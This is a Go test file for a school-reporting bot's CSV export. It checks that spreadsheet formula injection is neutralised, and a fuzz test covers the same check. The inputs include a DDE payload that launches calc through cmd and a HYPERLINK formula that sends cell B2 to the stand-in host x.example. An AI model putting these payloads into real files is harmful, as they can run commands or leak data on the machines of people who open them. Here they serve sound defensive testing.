package export

import (
	"encoding/csv"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/camgiang-edu/reportbot/domain"
)

// hostileRound is one school whose name, commune, free-text answer and file name are the
// given strings, with an integer answer of n.
func hostileRound(tb testing.TB, name, commune, text, file string, n int64) *Round {
	tb.Helper()
	p, _ := domain.DefaultPeriodSchedule().Find("2026-Y", loc)
	at := time.Date(2026, 12, 2, 3, 0, 0, 0, time.UTC)
	schools := []domain.School{{Code: "TH-A", Name: name, Commune: commune, Level: domain.LevelTH, Active: true}}
	subs := []domain.Submission{{School: "TH-A", SubmittedAt: at, FirstAt: at, Answers: map[string]domain.Answer{
		"comm_activities": {Int: &n}, "gifts_value": {Int: &n},
		"difficulties_proposals": {Text: text}, "report_scan": {File: &domain.FileRef{FileID: "f1", Name: file}}}}}
	return NewRound(p, domain.DefaultQuestionnaire(), schools, subs, nil, loc, "vi", idT)
}

// mustCSVRecords runs CSV and reads its records back as a spreadsheet would.
func mustCSVRecords(tb testing.TB, r *Round) [][]string {
	tb.Helper()
	data, err := CSV(r)
	if err != nil {
		tb.Fatal(err)
	}
	cr := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(data), utf8BOM)))
	recs, err := cr.ReadAll()
	if err != nil {
		tb.Fatalf("the CSV does not read back: %v", err)
	}
	return recs
}

var csvNumber = regexp.MustCompile(`^-?[0-9]+$`)

// formulaChars start a formula in a spreadsheet cell (OWASP, "CSV Injection").
const formulaChars = "=+-@\t\r"

// checkNoFormula fails when a cell starts a formula and is not a number CSV wrote.
func checkNoFormula(tb testing.TB, recs [][]string) {
	tb.Helper()
	for i, rec := range recs {
		for j, cell := range rec {
			if cell != "" && strings.IndexByte(formulaChars, cell[0]) >= 0 && !csvNumber.MatchString(cell) {
				tb.Fatalf("row %d column %d starts a formula: %q", i, j, cell)
			}
		}
	}
}

func TestCSV_FormulaInjection(t *testing.T) {
	r := hostileRound(t, "@SUM(1+1)*cmd|' /C calc'!A0", "+84 Cẩm Giàng", `=HYPERLINK("http://x.example/?"&B2,"Bấm")`,
		"=cmd|' /C calc'!A0.pdf", -5)
	recs := mustCSVRecords(t, r)
	checkNoFormula(t, recs)
	row := strings.Join(recs[1], "|")
	for _, want := range []string{
		"'@SUM(1+1)*cmd|' /C calc'!A0", "'+84 Cẩm Giàng", `'=HYPERLINK("http://x.example/?"&B2,"Bấm")`,
		"'=cmd|' /C calc'!A0.pdf", "|-5|", "|1|", // numbers stay numbers: the answer and the revision
	} {
		if !strings.Contains("|"+row+"|", want) {
			t.Errorf("row lacks %q: %q", want, row)
		}
	}
}

// FuzzCSVWriter checks that whatever people type, no cell of the CSV export starts a
// formula unless it is a number the exporter wrote.
func FuzzCSVWriter(f *testing.F) {
	f.Add("=1+1", "@x", "+84", "-cmd", int64(-5))
	f.Add("\t=A1", "\r=A1", "a\n=b", `"=x"`, int64(1000))
	f.Add("Trường A", "Cẩm Vũ", "Thiếu sân", "bao-cao.pdf", int64(0))
	f.Fuzz(func(t *testing.T, name, commune, text, file string, n int64) {
		checkNoFormula(t, mustCSVRecords(t, hostileRound(t, name, commune, text, file, n)))
	})
}
